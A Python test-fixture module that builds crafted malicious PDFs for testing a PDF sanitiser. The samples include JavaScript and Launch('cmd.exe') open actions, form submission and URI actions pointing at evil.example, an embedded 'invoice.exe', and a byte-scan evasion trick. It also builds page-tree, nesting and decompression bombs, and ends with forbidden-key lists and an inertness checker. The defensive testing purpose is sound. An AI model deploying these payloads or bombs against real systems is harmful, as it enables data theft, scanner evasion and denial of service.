"""Crafted PDFs: one per way a PDF can act (issue #10, finding 2), and PDF bombs.

Each is built with pikepdf as an attacker would, with its dictionaries compressed in object
streams (PDF 1.5) so that the names never appear in the file's bytes. `hidden_from_byte_scan`
goes further: a comment inside the object stream's own dictionary, so that even a scanner that
inflates object streams does not recognise the stream as one.
"""

import functools
import io
import zlib
from collections.abc import Callable

import pikepdf
from pikepdf import Array, Dictionary, Name, String

SCRIPT = "app.alert('pwned')"
SCRIPT_BYTES = SCRIPT.encode()


def _javascript(pdf: pikepdf.Pdf) -> pikepdf.Object:
    return pdf.make_indirect(Dictionary(S=Name.JavaScript, JS=String(SCRIPT)))


def _link(pdf: pikepdf.Pdf, action: Dictionary, **extra) -> None:
    """A link annotation over the page that runs `action` when clicked."""
    annotation = Dictionary(
        Type=Name.Annot, Subtype=Name.Link, Rect=[0, 0, 612, 792], A=action, **extra
    )
    pdf.pages[0].Annots = pdf.make_indirect(Array([pdf.make_indirect(annotation)]))


def _open_action_javascript(pdf: pikepdf.Pdf) -> None:
    pdf.Root.OpenAction = _javascript(pdf)


def _open_action_uri(pdf: pikepdf.Pdf) -> None:
    pdf.Root.OpenAction = Dictionary(S=Name.URI, URI=String("https://evil.example/steal"))


def _open_action_launch(pdf: pikepdf.Pdf) -> None:
    pdf.Root.OpenAction = Dictionary(S=Name.Launch, F=String("cmd.exe"), Win=Dictionary(F="cmd"))


def _submit_form(pdf: pikepdf.Pdf) -> None:
    action = Dictionary(S=Name.SubmitForm, F=String("https://evil.example/collect"), Flags=4)
    widget = pdf.make_indirect(
        Dictionary(
            Type=Name.Annot,
            Subtype=Name.Widget,
            FT=Name.Btn,
            T=String("send"),
            Rect=[0, 0, 100, 20],
            A=action,
        )
    )
    pdf.pages[0].Annots = Array([widget])
    pdf.Root.AcroForm = Dictionary(Fields=Array([widget]))


def _import_data(pdf: pikepdf.Pdf) -> None:
    _link(pdf, Dictionary(S=Name.ImportData, F=String("data.fdf")))


def _link_javascript(pdf: pikepdf.Pdf) -> None:
    _link(pdf, _javascript(pdf))


def _link_uri(pdf: pikepdf.Pdf) -> None:
    uri = Dictionary(S=Name.URI, URI=String("https://evil.example/"))
    _link(pdf, uri, PA=uri)


def _page_additional_action(pdf: pikepdf.Pdf) -> None:
    pdf.pages[0].AA = Dictionary(O=_javascript(pdf))


def _document_additional_action(pdf: pikepdf.Pdf) -> None:
    pdf.Root.AA = Dictionary(WC=_javascript(pdf), DP=_javascript(pdf))


def _names_javascript(pdf: pikepdf.Pdf) -> None:
    pdf.Root.Names = Dictionary(
        JavaScript=Dictionary(Names=Array([String("init"), _javascript(pdf)]))
    )


def _embedded_file(pdf: pikepdf.Pdf) -> None:
    payload = pikepdf.Stream(pdf, b"MZ\x90\x00 an executable")
    payload.Type = Name.EmbeddedFile
    filespec = Dictionary(Type=Name.Filespec, F=String("invoice.exe"), EF=Dictionary(F=payload))
    pdf.Root.Names = Dictionary(EmbeddedFiles=Dictionary(Names=Array([String("a"), filespec])))
    pdf.Root.OpenAction = Dictionary(S=Name.Launch, F=filespec)


def _rich_media(pdf: pikepdf.Pdf) -> None:
    flash = pikepdf.Stream(pdf, b"FWS\x0a flash")
    content = Dictionary(Assets=Dictionary(Names=Array([String("a.swf"), flash])))
    annotation = Dictionary(
        Type=Name.Annot, Subtype=Name.RichMedia, Rect=[0, 0, 100, 100], RichMediaContent=content
    )
    pdf.pages[0].Annots = Array([pdf.make_indirect(annotation)])


def _xfa(pdf: pikepdf.Pdf) -> None:
    template = pikepdf.Stream(pdf, b"<xdp:xdp><script>xfa.host.messageBox(1)</script></xdp:xdp>")
    pdf.Root.AcroForm = Dictionary(Fields=Array([]), XFA=template, NeedsRendering=True)


def _field_additional_action(pdf: pikepdf.Pdf) -> None:
    widget = pdf.make_indirect(
        Dictionary(
            Type=Name.Annot,
            Subtype=Name.Widget,
            FT=Name.Tx,
            T=String("name"),
            Rect=[0, 0, 100, 20],
            AA=Dictionary(K=_javascript(pdf), F=_javascript(pdf)),
        )
    )
    pdf.pages[0].Annots = Array([widget])
    pdf.Root.AcroForm = Dictionary(Fields=Array([widget]))


def _chained_after_goto(pdf: pikepdf.Pdf) -> None:
    """A harmless jump to page 1 whose /Next runs a script."""
    goto = Dictionary(S=Name.GoTo, D=Array([pdf.pages[0].obj, Name.Fit]), Next=_javascript(pdf))
    _link(pdf, goto)


def _outline_javascript(pdf: pikepdf.Pdf) -> None:
    item = pdf.make_indirect(Dictionary(Title=String("目录"), A=_javascript(pdf)))
    outlines = pdf.make_indirect(Dictionary(Type=Name.Outlines, First=item, Last=item, Count=1))
    item.Parent = outlines
    pdf.Root.Outlines = outlines


ACTIVE: dict[str, Callable[[pikepdf.Pdf], None]] = {
    "OpenAction JavaScript": _open_action_javascript,
    "OpenAction URI": _open_action_uri,
    "OpenAction Launch": _open_action_launch,
    "SubmitForm button": _submit_form,
    "ImportData link": _import_data,
    "JavaScript link": _link_javascript,
    "URI link": _link_uri,
    "page /AA": _page_additional_action,
    "document /AA": _document_additional_action,
    "JavaScript name tree": _names_javascript,
    "embedded file": _embedded_file,
    "RichMedia annotation": _rich_media,
    "XFA form": _xfa,
    "form field /AA": _field_additional_action,
    "script chained after a GoTo": _chained_after_goto,
    "outline item running a script": _outline_javascript,
}


def document(*, pages: int = 1, text: str = "Labour contract") -> pikepdf.Pdf:
    """An honest document: `pages` pages, each showing a line of text."""
    pdf = pikepdf.new()
    font = pdf.make_indirect(
        Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica)
    )
    for number in range(1, pages + 1):
        pdf.add_blank_page(page_size=(595, 842))
        page = pdf.pages[-1]
        page.Resources = Dictionary(Font=Dictionary(F1=font))
        line = f"BT /F1 24 Tf 72 760 Td ({text}, page {number}) Tj ET"
        page.Contents = pdf.make_stream(line.encode())
    return pdf


def save(pdf: pikepdf.Pdf, *, object_streams: bool = True, **options) -> bytes:
    buffer = io.BytesIO()
    mode = pikepdf.ObjectStreamMode.generate if object_streams else pikepdf.ObjectStreamMode.disable
    pdf.save(buffer, object_stream_mode=mode, **options)
    return buffer.getvalue()


def honest(*, pages: int = 1) -> bytes:
    return save(document(pages=pages))


def active(name: str, *, object_streams: bool = True) -> bytes:
    """A one-page document with the active content ACTIVE[name] added."""
    pdf = document()
    ACTIVE[name](pdf)
    return save(pdf, object_streams=object_streams)


def hidden_from_byte_scan() -> bytes:
    """The OpenAction script in an object stream whose dictionary holds a comment.

    `<< /Type /ObjStm` becomes `<</Type%\\n/ObjStm`: the same length, so every offset in the
    cross-reference stream stays right and the file is valid, but `/Type /ObjStm` is no longer
    in the bytes and a scanner looking for object streams does not inflate this one.
    """
    content = active("OpenAction JavaScript")
    assert content.count(b"<< /Type /ObjStm") == 1
    assert SCRIPT_BYTES not in content
    assert b"/JavaScript" not in content
    return content.replace(b"<< /Type /ObjStm", b"<</Type%\n/ObjStm")


def encrypted(*, user_password: str) -> bytes:
    """Encrypted with AES-256; opens without a password when `user_password` is empty."""
    encryption = pikepdf.Encryption(owner="staff-only", user=user_password, R=6)
    return save(document(), encryption=encryption)


def page_tree_bomb(*, fan_out: int = 10, depth: int = 9) -> bytes:
    """Pages nodes naming one child `fan_out` times, `depth` levels deep: 10⁹ pages in 2 KB."""
    pdf = document()
    node = pdf.pages[0].obj
    for _ in range(depth):
        node = pdf.make_indirect(
            Dictionary(Type=Name.Pages, Kids=Array([node] * fan_out), Count=fan_out)
        )
    pdf.Root.Pages = node
    return save(pdf, object_streams=False)


def deep_nesting(depth: int = 100_000) -> bytes:
    """An array nested `depth` times inside the catalog: recursive parsers overflow."""
    content = bytearray(b"%PDF-1.7\n")
    bodies = [
        b"<< /Type /Catalog /Pages 2 0 R /Deep " + b"[" * depth + b"]" * depth + b" >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
    ]
    offsets = []
    for number, body in enumerate(bodies, start=1):
        offsets.append(len(content))
        content += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    xref = len(content)
    content += b"xref\n0 4\n0000000000 65535 f \n"
    content += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    content += b"trailer\n<< /Size 4 /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % xref
    return bytes(content)


@functools.cache
def object_stream_bomb(inflated_mib: int = 640) -> bytes:
    """A 10 KB file whose object stream inflates to `inflated_mib` MiB (flate applied twice).

    The catalog, page tree and page are in the stream, so a parser must inflate it to open the
    document at all. Built by hand: pikepdf would write the stream anew.
    """
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
    ]
    offsets, body = [], b""
    for obj in objects:
        offsets.append(len(body))
        body += obj + b"\n"
    index = b" ".join(b"%d %d" % (n + 1, offset) for n, offset in enumerate(offsets)) + b"\n"
    inner = zlib.compressobj(1)
    chunks = [inner.compress(index + body)]
    padding = b" " * (1 << 20)
    chunks += [inner.compress(padding) for _ in range(inflated_mib)]
    chunks.append(inner.flush())
    data = zlib.compress(b"".join(chunks), 9)

    content = bytearray(b"%PDF-1.7\n")
    stream_offset = len(content)
    content += b"4 0 obj\n<< /Type /ObjStm /N 3 /First %d /Filter [/FlateDecode /FlateDecode]" % (
        len(index)
    )
    content += b" /Length %d >>\nstream\n" % len(data) + data + b"\nendstream\nendobj\n"
    xref_offset = len(content)
    # Cross-reference stream (§7.5.8): type 2 entries point into object stream 4.
    rows = [
        (0, 0, 65535),
        (2, 4, 0),
        (2, 4, 1),
        (2, 4, 2),
        (1, stream_offset, 0),
        (1, xref_offset, 0),
    ]
    table = b"".join(
        kind.to_bytes(1, "big") + field.to_bytes(4, "big") + extra.to_bytes(2, "big")
        for kind, field, extra in rows
    )
    content += (
        b"5 0 obj\n<< /Type /XRef /Size 6 /W [1 4 2] /Root 1 0 R /Length %d >>\nstream\n"
        % len(table)
    )
    content += table + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % xref_offset
    return bytes(content)


def flate_bomb(inflated_mib: int) -> bytes:
    """`inflated_mib` MiB of spaces, flate-compressed twice into a few kilobytes.

    Built without compressing gigabytes: each MiB is compressed after a full flush, which
    resets the compressor, so every MiB after the first compresses to the same bytes and the
    stream is those bytes repeated, closed by an empty final block and the Adler-32 of the whole.
    """
    block = b" " * (1 << 20)
    compressor = zlib.compressobj(9)
    first = compressor.compress(block) + compressor.flush(zlib.Z_FULL_FLUSH)
    repeated = compressor.compress(block) + compressor.flush(zlib.Z_FULL_FLUSH)
    checksum = 1
    for _ in range(inflated_mib):
        checksum = zlib.adler32(block, checksum)
    once = first + repeated * (inflated_mib - 1) + b"\x03\x00" + checksum.to_bytes(4, "big")
    return zlib.compress(once, 9)


@functools.cache
def content_stream_bomb(inflated_mib: int = 2048) -> bytes:
    """A page whose content inflates to `inflated_mib` MiB (2 GiB: flate applied twice), in a
    file of about 5 KB (issue 17, finding 8)."""
    pdf = document()
    bomb = pikepdf.Stream(pdf, flate_bomb(inflated_mib))
    bomb.Filter = Array([Name.FlateDecode, Name.FlateDecode])
    pdf.pages[0].Contents = bomb
    return save(pdf, compress_streams=False)


# What a stored PDF must not hold, checked independently of rentcenter/pdfs.py's own lists.
FORBIDDEN_KEYS = {
    "/OpenAction", "/AA", "/JS", "/JavaScript", "/EmbeddedFiles", "/EF", "/XFA", "/URI",
    "/RichMediaContent", "/Next",
}  # fmt: skip
FORBIDDEN_BYTES = (SCRIPT_BYTES, b"evil.example", b"/JavaScript", b"/Launch", b"/ObjStm", b"cmd")


def assert_inert(content: bytes) -> None:
    """The PDF opens, every object in it is free of actions other than GoTo, and no script,
    address or command is left anywhere in its bytes (it holds no object streams)."""
    for forbidden in FORBIDDEN_BYTES:
        assert forbidden not in content, forbidden
    pdf = pikepdf.open(io.BytesIO(content))
    assert len(pdf.pages) >= 1
    for obj in [pdf.trailer, *pdf.objects]:
        pending = [obj]
        while pending:
            item = pending.pop()
            if isinstance(item, pikepdf.Array):
                pending.extend(child for child in item if _direct(child))
            elif isinstance(item, Dictionary | pikepdf.Stream):
                assert not FORBIDDEN_KEYS.intersection(item.keys()), dict(item.items())
                if "/S" in item and "/D" not in item:
                    raise AssertionError(f"an action other than GoTo: {item!r}")
                assert item.get("/Subtype") not in {Name.RichMedia, Name.FileAttachment}
                pending.extend(child for child in item.values() if _direct(child))


def _direct(obj: object) -> bool:
    return isinstance(obj, pikepdf.Object) and not obj.is_indirect
